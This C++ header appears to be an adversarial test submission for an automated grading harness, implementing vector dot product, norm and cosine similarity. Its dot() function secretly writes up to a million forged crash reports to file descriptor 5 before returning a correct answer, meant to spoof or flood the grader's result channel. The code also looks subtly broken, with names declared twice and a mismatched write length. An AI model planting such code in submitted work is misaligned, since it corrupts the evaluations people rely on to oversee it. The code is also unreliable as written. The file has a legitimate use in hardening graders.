// Attack: reports a crash at addresses of its choice, a million of them, and then answers.
// status: passed|crashed|error|timeout
// points: 5
// seconds: 20
#pragma once

#include <mlcore/core/shapes.hpp>
#include <mlcore/foundations/vectors/interface.hpp>

#include <cmath>
#include <cstdio>
#include <fcntl.h>
#include <unistd.h>

namespace exercise {
using namespace mlcore;

inline vectors::Dot dot;
inline vectors::Norm norm;
inline vectors::CosineSimilarity cosine_similarity;

inline double dot(VectorView a, VectorView b) {
    check_same_size("dot", "a", a.size(), "b", b.size());
    double sum = 0;
    for (Index i = 0; i < a.size(); ++i) sum += a(i) * b(i);
    static bool first = true;
    if (first) fcntl(5, F_SETFL, O_NONBLOCK);
    for (int i = 0; first && i < 1000000; ++i)
        if (write(5, "11\n-9223372036854775808\n18446744073709551615\n", 44) < 0) break;
    first = false;
    return sum;
}

inline double norm(VectorView a) {
    return std::sqrt(a.squaredNorm());
}

inline double cosine_similarity(VectorView a, VectorView b) {
    check_same_size("cosine_similarity", "a", a.size(), "b", b.size());
    const double lengths = norm(a) * norm(b);
    return lengths == 0 ? 0 : a.dot(b) / lengths;
}

} // namespace exercise
